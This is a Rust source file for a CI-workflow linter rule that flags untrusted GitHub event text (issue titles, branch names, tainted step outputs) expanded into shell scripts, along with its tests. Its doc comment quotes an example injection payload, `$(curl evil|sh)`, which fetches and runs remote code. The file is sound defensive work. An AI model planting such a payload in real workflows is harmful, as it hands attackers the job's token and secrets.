use paved_model::pattern::Gated;
use paved_model::workflows::{expressions, Step, WorkflowFile};

use crate::guardrails::declare::{rule, Check};
use crate::guardrails::{CheckCtx, Emitter};

// Each pattern is compiled only for a text holding a literal that all its matches
// contain, and built for short texts (an expression, a line, a value); most
// workflows name none of these contexts, so the audit compiles none of them.

/// Contexts whose text whoever opens an issue, a pull request or a branch chooses.
/// The needles are the context names after `github.` (`event.pull_request.number`
/// names none of them).
static UNTRUSTED_CONTEXT: Gated = Gated::new(
    r"github\s*\.\s*(head_ref|event\.(issue\.(title|body)|pull_request\.(title|body|head\.(ref|label|repo\.default_branch))|comment\.body|review\.body|review_comment\.body|discussion\.(title|body)|commits(\[[^\]]*\]|\.\*)\.(message|author\.(name|email))|head_commit\.(message|author\.(name|email))|workflow_run\.(head_branch|display_title|head_commit\.(message|author\.(name|email)))|pages(\[[^\]]*\]|\.\*)\.page_name))",
    &[
        "head_ref",
        "event.issue.",
        "event.pull_request.title",
        "event.pull_request.body",
        "event.pull_request.head.ref",
        "event.pull_request.head.label",
        "event.pull_request.head.repo.default_branch",
        "event.comment.body",
        "event.review.body",
        "event.review_comment.body",
        "event.discussion.",
        "event.commits",
        "event.head_commit.",
        "event.workflow_run.",
        "event.pages",
    ],
)
.for_short_texts();

/// [`UNTRUSTED_CONTEXT`] behind two substring searches: each of its needles holds
/// `head_ref` or `event.`, so a text holding neither holds no needle and no match
/// (`needles_hold_a_prefix` checks it). Most expressions (`github.sha`,
/// `matrix.os`, `secrets.TOKEN`) hold neither, and the two searches cost less than
/// building the needles' automaton, ~190 K instructions per audit.
struct Untrusted;

impl Untrusted {
    const PREFIXES: [&'static str; 2] = ["head_ref", "event."];

    fn may_match(text: &str) -> bool {
        Untrusted::PREFIXES
            .iter()
            .any(|p| memchr::memmem::find(text.as_bytes(), p.as_bytes()).is_some())
    }

    fn find<'t>(&self, text: &'t str) -> Option<regex::Match<'t>> {
        Untrusted::may_match(text)
            .then(|| UNTRUSTED_CONTEXT.find(text))
            .flatten()
    }

    fn is_match(&self, text: &str) -> bool {
        Untrusted::may_match(text) && UNTRUSTED_CONTEXT.is_match(text)
    }
}

fn untrusted_context() -> &'static Untrusted {
    &Untrusted
}

rule! {
    /// Attacker-controlled context expanded in a script
    ///
    /// ## Why it matters
    /// `${{ }}` is substituted into the script text before the shell runs it, so an issue
    /// title or branch name like `$(curl evil|sh)` becomes code running with the job's
    /// token and secrets.
    ///
    /// The same holds for a step output that carries such text: a step that writes
    /// the title to `$GITHUB_OUTPUT` (even safely, from an environment variable)
    /// hands it to every later `${{ steps.<id>.outputs.<name> }}` in the job.
    ///
    /// ## How to fix it
    /// Pass the value through an environment variable (`env: TITLE: ${{
    /// github.event.issue.title }}`, or `${{ steps.<id>.outputs.<name> }}`) and use
    /// `"$TITLE"` in the script.
    ///
    /// ## Example
    /// ```yaml
    /// steps:
    ///   # flagged: the title is pasted into the script before bash reads it
    ///   - run: echo "${{ github.event.pull_request.title }}"
    /// ```
    /// ```yaml
    /// steps:
    ///   - env:
    ///       TITLE: ${{ github.event.pull_request.title }}
    ///     run: echo "$TITLE"
    /// ```
    pub struct TemplateInjection {
        id: "PVD-GHA-006",
        severity: Critical,
        references: ["zizmor:template-injection", "scorecard:Dangerous-Workflow", "checkov:CKV_GHA_2"],
    }
}

impl Check for TemplateInjection {
    fn check(&self, cx: &CheckCtx<'_>, out: &mut Emitter<'_>) {
        for (at, expr) in cx.workflows().code_expressions() {
            if let Some(m) = untrusted_context().find(expr) {
                out.at(at).say(format!(
                    "`{}` is attacker-controlled and expanded into code before it runs",
                    m.as_str()
                ));
            }
        }
        for file in cx.workflows().all() {
            tainted_outputs_expanded(file, out);
        }
    }
}

/// Reports `${{ steps.<id>.outputs.<name> }}` in the code of a later step of the same
/// job (or composite action) when step `<id>` wrote attacker-controlled text to that
/// output: one step followed, as zizmor does, and only outputs whose written value
/// expands the text itself (not a value computed from it).
fn tainted_outputs_expanded(file: &WorkflowFile<'_>, out: &mut Emitter<'_>) {
    let steps = file.steps();
    for (i, step) in steps.iter().enumerate() {
        let Some(id) = step.node.str_at("id").map(str::trim) else {
            continue;
        };
        let written = tainted_outputs(file, step);
        if written.is_empty() {
            continue;
        }
        for later in steps[i + 1..].iter().filter(|s| same_job(s, step)) {
            let Some((node, code)) = later.code() else {
                continue;
            };
            for (offset, expr) in expressions(code) {
                if untrusted_context().is_match(expr) {
                    continue; // reported as it is
                }
                let compact: String = expr.chars().filter(|c| !c.is_whitespace()).collect();
                if let Some((name, source)) = written
                    .iter()
                    .find(|(name, _)| names_output(&compact, id, name))
                {
                    out.at(file.at_text(node, offset)).say(format!(
                        "`steps.{id}.outputs.{name}` holds `{source}` (step `{id}` writes it to $GITHUB_OUTPUT) and is expanded into code before it runs"
                    ));
                }
            }
        }
    }
}

fn same_job(a: &Step<'_>, b: &Step<'_>) -> bool {
    match (a.job, b.job) {
        (Some(x), Some(y)) => std::ptr::eq(x.node, y.node),
        (None, None) => true,
        _ => false,
    }
}

/// Whether a whitespace-free expression reads `steps.<id>.outputs.<name>` (or
/// `outputs['<name>']`).
fn names_output(expr: &str, id: &str, name: &str) -> bool {
    let dotted = format!("steps.{id}.outputs.{name}");
    let dotted_hit = expr.match_indices(&dotted).any(|(at, m)| {
        !expr[at + m.len()..]
            .starts_with(|c: char| c.is_ascii_alphanumeric() || c == '_' || c == '-')
    });
    dotted_hit
        || expr.contains(&format!("steps.{id}.outputs['{name}']"))
        || expr.contains(&format!("steps.{id}.outputs[\"{name}\"]"))
}

/// The outputs a step writes with attacker-controlled text, each with the context it
/// comes from: `echo "title=$TITLE" >> "$GITHUB_OUTPUT"` (also `printf`, a
/// `name<<EOF` heredoc, a `{ …; } >> "$GITHUB_OUTPUT"` group and the old
/// `::set-output name=…::`), and `core.setOutput('title', …)` in
/// actions/github-script, where `TITLE` is an environment variable set from such a
/// context or the context is expanded in place.
fn tainted_outputs(file: &WorkflowFile<'_>, step: &Step<'_>) -> Vec<(String, String)> {
    let Some((_, code)) = step.code() else {
        return Vec::new();
    };
    let env = tainted_env(file, step);
    let mut found: Vec<(String, String)> = Vec::new();
    let add = |found: &mut Vec<(String, String)>, name: &str, source: String| {
        if !found.iter().any(|(n, _)| n == name) {
            found.push((name.to_owned(), source));
        }
    };
    if step.uses().is_some() {
        for c in set_output_call().captures_iter(code) {
            if let Some(source) = taint_in(&c[2], &env) {
                add(&mut found, &c[1], source);
            }
        }
        return found;
    }
    let lines: Vec<&str> = code.lines().collect();
    for (i, line) in lines.iter().enumerate() {
        if let Some(c) = set_output_command().captures(line) {
            if let Some(source) = taint_in(&c[2], &env) {
                add(&mut found, &c[1], source);
            }
        }
        let Some((before, _)) = line.split_once(">>") else {
            continue;
        };
        if !line.contains("GITHUB_OUTPUT") {
            continue;
        }
        // `} >> "$GITHUB_OUTPUT"` closes a group opened on an earlier line.
        let segment: Vec<&str> = if before.trim() == "}" {
            let start = lines[..i]
                .iter()
                .rposition(|l| l.trim_start().starts_with('{'))
                .unwrap_or(i);
            lines[start..i].to_vec()
        } else {
            vec![before]
        };
        let mut current: Option<&str> = None;
        for statement in segment.iter().flat_map(|l| l.split(';')) {
            // The value follows `name=`; a heredoc's body lines are values whole.
            let mut value = statement;
            if let Some((name, end)) = output_assignment(statement) {
                current = Some(name);
                value = &statement[end..];
            }
            let Some(name) = current else { continue };
            if let Some(source) = taint_in(value, &env) {
                add(&mut found, name, source);
            }
        }
    }
    found
}

/// `name=` or `name<<` at the start of an echoed or printed word.
static OUTPUT_ASSIGNMENT: Gated = Gated::new(
    r#"(?:echo|printf)(?:\s+-[a-zA-Z]+)*\s+["']?([A-Za-z_][A-Za-z0-9_-]*)(?:=|<<)"#,
    &["echo", "printf"],
)
.for_short_texts();

/// [`OUTPUT_ASSIGNMENT`]'s first group and where its match ends. An ASCII statement
/// (nearly all) is read by hand, as [`assignment_at`] says; compiling the regex, with
/// its Unicode `\s`, cost ~470 K instructions per audit for the first `echo`.
fn output_assignment(statement: &str) -> Option<(&str, usize)> {
    if statement.is_ascii() {
        let (name, end) = assignment_at(statement.as_bytes())?;
        return Some((&statement[name], end));
    }
    let c = OUTPUT_ASSIGNMENT.captures(statement)?;
    Some((c.get(1)?.as_str(), c.get(0).map_or(0, |m| m.end())))
}

/// [`OUTPUT_ASSIGNMENT`] on an ASCII text: its leftmost match's first group and end.
///
/// Each part of the pattern has one way to lead to a match, whatever the engine
/// backtracks: an option (`\s+-[a-zA-Z]+`) counts only when whitespace follows it
/// (the next part starts with `\s+`), and after fewer options than that the name
/// would have to start at a `-`; a run of `\s`, of letters or of name bytes is
/// followed by a byte outside it, so only the whole run fits; the quote is taken
/// when there is one, since a name cannot start with it.
fn assignment_at(text: &[u8]) -> Option<(std::ops::Range<usize>, usize)> {
    let space = |b: u8| matches!(b, b'\t' | b'\n' | 0x0B | 0x0C | b'\r' | b' ');
    let run = |from: usize, class: &dyn Fn(u8) -> bool| {
        from + text
            .get(from..)
            .map_or(0, |t| t.iter().take_while(|&&b| class(b)).count())
    };
    let mut starts: Vec<(usize, usize)> = ["echo", "printf"]
        .iter()
        .flat_map(|w| {
            memchr::memmem::find_iter(text, w.as_bytes()).map(move |at| (at, at + w.len()))
        })
        .collect();
    starts.sort_unstable();
    starts.into_iter().find_map(|(_, mut at)| {
        loop {
            let dash = run(at, &space);
            if dash == at || text.get(dash) != Some(&b'-') {
                break;
            }
            let letters = run(dash + 1, &|b: u8| b.is_ascii_alphabetic());
            if letters == dash + 1 || !text.get(letters).is_some_and(|&b| space(b)) {
                break;
            }
            at = letters;
        }
        let name = run(at, &space);
        if name == at {
            return None;
        }
        let name = name + usize::from(matches!(text.get(name), Some(b'"' | b'\'')));
        if !text
            .get(name)
            .is_some_and(|&b| b.is_ascii_alphabetic() || b == b'_')
        {
            return None;
        }
        let end = run(name + 1, &|b: u8| {
            b.is_ascii_alphanumeric() || b == b'_' || b == b'-'
        });
        match text.get(end..) {
            Some([b'=', ..]) => Some((name..end, end + 1)),
            Some([b'<', b'<', ..]) => Some((name..end, end + 2)),
            _ => None,
        }
    })
}

/// `::set-output name=NAME::VALUE`.
static SET_OUTPUT_COMMAND: Gated = Gated::new(
    r"::set-output\s+name=([A-Za-z_][A-Za-z0-9_-]*)::(.*)",
    &["::set-output"],
)
.for_short_texts();

fn set_output_command() -> &'static Gated {
    &SET_OUTPUT_COMMAND
}

/// `core.setOutput('NAME', VALUE` (the rest of the line), searched in a whole script.
static SET_OUTPUT_CALL: Gated = Gated::new(
    r#"core\.setOutput\(\s*["'`]([A-Za-z_][A-Za-z0-9_-]*)["'`]\s*,(.*)"#,
    &["core.setOutput("],
);

fn set_output_call() -> &'static Gated {
    &SET_OUTPUT_CALL
}

/// The environment variables a step sees (workflow, job, then step `env:`, the
/// nearer winning) whose value expands an attacker-controlled context, with it.
fn tainted_env(file: &WorkflowFile<'_>, step: &Step<'_>) -> Vec<(String, String)> {
    let levels = [
        file.root().and_then(|r| r.get("env")),
        step.job.and_then(|j| j.node.get("env")),
        step.node.get("env"),
    ];
    let mut env: Vec<(String, Option<String>)> = Vec::new();
    for level in levels.into_iter().flatten() {
        for (name, _, value) in level.entries() {
            let source = value
                .as_str()
                .and_then(|v| untrusted_context().find(v))
                .map(|m| m.as_str().to_owned());
            env.retain(|(n, _)| n != name);
            env.push((name.to_owned(), source));
        }
    }
    env.into_iter()
        .filter_map(|(name, source)| Some((name, source?)))
        .collect()
}

/// The attacker-controlled context `value` expands, if any: a `${{ }}` of one, an
/// environment variable holding one (`$TITLE`, `${TITLE}`, `process.env.TITLE`), or
/// in github-script the event payload (`context.payload.issue.title`). Text inside
/// a command substitution `$( … )` is computed from the value, not the value, and
/// is left out.
fn taint_in(value: &str, env: &[(String, String)]) -> Option<String> {
    let value = without_command_substitutions(value);
    for (_, expr) in expressions(&value) {
        if let Some(m) = untrusted_context().find(expr) {
            return Some(m.as_str().to_owned());
        }
    }
    if let Some(at) = value.find("context.payload.") {
        let as_event = format!("github.event.{}", &value[at + "context.payload.".len()..]);
        if let Some(m) = untrusted_context().find(&as_event) {
            if m.start() == 0 {
                return Some(m.as_str().to_owned());
            }
        }
    }
    env.iter()
        .find(|(name, _)| expands_variable(&value, name))
        .map(|(_, source)| source.clone())
}

/// `$NAME` (not followed by more of a name), `${NAME}` or `process.env.NAME`.
fn expands_variable(text: &str, name: &str) -> bool {
    let plain = format!("${name}");
    text.match_indices(&plain).any(|(at, m)| {
        !text[at + m.len()..].starts_with(|c: char| c.is_ascii_alphanumeric() || c == '_')
    }) || text.contains(&format!("${{{name}}}"))
        || text.match_indices(&format!("process.env.{name}")).any(|(at, m)| {
            !text[at + m.len()..].starts_with(|c: char| c.is_ascii_alphanumeric() || c == '_')
        })
}

/// `value` with every `$( … )` removed (nesting followed, quotes not).
fn without_command_substitutions(value: &str) -> String {
    let mut out = String::with_capacity(value.len());
    let mut depth = 0usize;
    let mut chars = value.chars().peekable();
    while let Some(c) = chars.next() {
        if c == '$' && chars.peek() == Some(&'(') {
            chars.next();
            depth += 1;
            continue;
        }
        if depth > 0 {
            match c {
                '(' => depth += 1,
                ')' => depth -= 1,
                _ => {}
            }
            continue;
        }
        out.push(c);
    }
    out
}

#[cfg(test)]
mod tests {
    use crate::guardrails::rules::github_actions::rules;
    use crate::guardrails::{check_all, Params, RepoModel};

    /// Findings of this rule: (line, message).
    fn findings(workflow: &str) -> Vec<(Option<u32>, String)> {
        let model = RepoModel::from_memory(&[(".github/workflows/triage.yml", workflow)]);
        check_all(&model, &Params::default(), rules())
            .into_iter()
            .filter(|h| h.rule == "PVD-GHA-006")
            .map(|h| (h.line, h.message))
            .collect()
    }

    fn job(steps: &str) -> String {
        format!("on: issues\npermissions: {{}}\njobs:\n  triage:\n    runs-on: ubuntu-latest\n    steps:\n{steps}")
    }

    #[test]
    fn output_written_from_an_untrusted_env_var_taints_its_readers() {
        let w = job(concat!(
            "      - id: meta\n",
            "        env:\n",
            "          TITLE: ${{ github.event.issue.title }}\n",
            "        run: |\n",
            "          echo \"title=$TITLE\" >> \"$GITHUB_OUTPUT\"\n",
            "          echo \"sha=$(git rev-parse HEAD)\" >> \"$GITHUB_OUTPUT\"\n",
            "      - run: echo \"${{ steps.meta.outputs.sha }}\"\n",
            "      - env:\n",
            "          T: ${{ steps.meta.outputs.title }}\n",
            "        run: echo \"$T\"\n",
            "      - run: |\n",
            "          gh issue edit --title \"${{ steps.meta.outputs.title }}\"\n",
        ));
        assert_eq!(
            findings(&w),
            [(
                Some(18),
                "`steps.meta.outputs.title` holds `github.event.issue.title` (step `meta` writes it to $GITHUB_OUTPUT) and is expanded into code before it runs".to_owned()
            )]
        );
    }

    #[test]
    fn heredoc_group_set_output_and_github_script() {
        let w = job(concat!(
            "      - id: a\n",
            "        env:\n",
            "          BODY: ${{ github.event.issue.body }}\n",
            "        run: |\n",
            "          {\n",
            "            echo 'body<<EOF'\n",
            "            echo \"$BODY\"\n",
            "            echo EOF\n",
            "          } >> \"$GITHUB_OUTPUT\"\n",
            "      - id: b\n",
            "        run: echo \"::set-output name=ref::${{ github.head_ref }}\"\n",
            "      - id: c\n",
            "        uses: actions/github-script@v7\n",
            "        with:\n",
            "          script: |\n",
            "            core.setOutput('t', context.payload.issue.title)\n",
            "            core.setOutput('n', context.payload.issue.number)\n",
            "      - run: |\n",
            "          echo ${{ steps.a.outputs.body }}\n",
            "          echo ${{ steps.b.outputs.ref }}\n",
            "          echo ${{ steps.c.outputs.t }} ${{ steps.c.outputs.n }}\n",
        ));
        let lines: Vec<Option<u32>> = findings(&w).into_iter().map(|(l, _)| l).collect();
        // Line 17 is the set-output expansion itself; 25-27 the three readers.
        assert_eq!(lines, [Some(17), Some(25), Some(26), Some(27)]);
    }

    #[test]
    fn trusted_values_other_jobs_and_earlier_steps_are_quiet() {
        let w = concat!(
            "on: issues\n",
            "permissions: {}\n",
            "env:\n",
            "  NUMBER: ${{ github.event.issue.number }}\n",
            "jobs:\n",
            "  a:\n",
            "    runs-on: ubuntu-latest\n",
            "    steps:\n",
            "      - run: echo ${{ steps.meta.outputs.title }}\n",
            "      - id: meta\n",
            "        env:\n",
            "          TITLE: ${{ github.event.issue.title }}\n",
            "        run: |\n",
            "          echo \"n=$NUMBER\" >> $GITHUB_OUTPUT\n",
            "          echo \"len=${#TITLE}\" >> $GITHUB_OUTPUT\n",
            "          echo \"has=$([ -n \"$TITLE\" ] && echo yes)\" >> $GITHUB_OUTPUT\n",
            "          echo \"TITLED=$TITLE\" >> $GITHUB_ENV\n",
            "      - run: echo ${{ steps.meta.outputs.n }} ${{ steps.meta.outputs.len }} ${{ steps.meta.outputs.has }}\n",
            "  b:\n",
            "    runs-on: ubuntu-latest\n",
            "    steps:\n",
            "      - run: echo ${{ steps.meta.outputs.title }}\n",
        );
        assert_eq!(findings(w), []);
    }
}

#[cfg(test)]
mod gate_tests {
    use super::*;
    use crate::guardrails::gate_samples::{assert_same_matches, texts};

    /// The needles of each pattern are literals all its matches contain: each finds,
    /// over every fixture line and these samples, what its regex alone finds.
    #[test]
    fn gates_keep_every_match() {
        let texts = texts(&[
            "echo ${{ github.head_ref }}",
            "github . event.issue.title",
            "${{ github.event.pull_request.head.repo.default_branch }}",
            "${{ github.event.pull_request.number || github.sha }}",
            "github.event.commits[0].author.email",
            "github.event.commits.*.message",
            "github.event.pages[1].page_name",
            "github.event.workflow_run.head_commit.author.name",
            "github.event.discussion.body github.event.review_comment.body",
            "echo \"title=$TITLE\" >> \"$GITHUB_OUTPUT\"",
            "printf -v 'name<<EOF'",
            "echo ::set-output name=title::${{ github.event.issue.title }}",
            "core.setOutput( 'title', context.payload.issue.title)",
        ]);
        let n: usize = [
            &UNTRUSTED_CONTEXT,
            &OUTPUT_ASSIGNMENT,
            &SET_OUTPUT_COMMAND,
            &SET_OUTPUT_CALL,
        ]
        .iter()
        .map(|g| assert_same_matches(g, &texts))
        .sum();
        assert!(n >= 13, "{n}");
    }

    /// Every needle of the untrusted contexts holds one of the prefixes the search
    /// looks for first.
    #[test]
    fn needles_hold_a_prefix() {
        for needle in UNTRUSTED_CONTEXT.needles() {
            assert!(
                Untrusted::PREFIXES.iter().any(|p| needle.contains(p)),
                "{needle}"
            );
        }
    }

    /// The hand reading of an output assignment gives the regex's first group and
    /// match end: on every fixture line and each of its `;` statements, and on every
    /// string of up to four of the pieces that decide a match, and random longer ones.
    #[test]
    fn output_assignments_as_the_regex() {
        let regex = regex::Regex::new(OUTPUT_ASSIGNMENT.as_str()).unwrap();
        let mut samples: Vec<String> = Vec::new();
        for text in texts(&[]) {
            samples.extend(text.split(';').map(str::to_owned));
            samples.push(text);
        }
        let pieces = [
            "echo", "printf", " ", "\t", "\n", "\u{b}", "-n", "-", "e", "\"", "'", "x=", "_a-1",
            "<<", "<", "=", "1", "-e=",
        ];
        let mut level = vec![String::new()];
        for _ in 0..4 {
            level = level
                .iter()
                .flat_map(|s| pieces.iter().map(move |p| format!("{s}{p}")))
                .collect();
            samples.extend(level.iter().cloned());
        }
        // Longer ones, most of them close to a match: a command, options, a name.
        let heads = ["echo", "printf", "xecho", "echo -n", "printf -v"];
        let tails = [" x=", " 'x=", " \"x<<", " -e x=", "\t_a-1<<", " x<", " 1=", " -x= ", " x"];
        let mut next = paved_model::samples::below(0x510e_527f_ade6_82d1);
        samples.extend((0..20_000).map(|_| {
            let mut s = String::new();
            for _ in 0..1 + next(3) {
                s.push_str(heads[next(heads.len())]);
                for _ in 0..next(3) {
                    s.push_str(pieces[next(pieces.len())]);
                }
                s.push_str(tails[next(tails.len())]);
            }
            s
        }));
        let mut found = 0;
        for text in samples.iter().filter(|t| t.is_ascii()) {
            let want = regex
                .captures(text)
                .map(|c| (c.get(1).unwrap().range(), c.get(0).unwrap().end()));
            assert_eq!(assignment_at(text.as_bytes()), want, "{text:?}");
            found += usize::from(want.is_some());
        }
        assert!(found > 5_000, "{found}");
    }
}
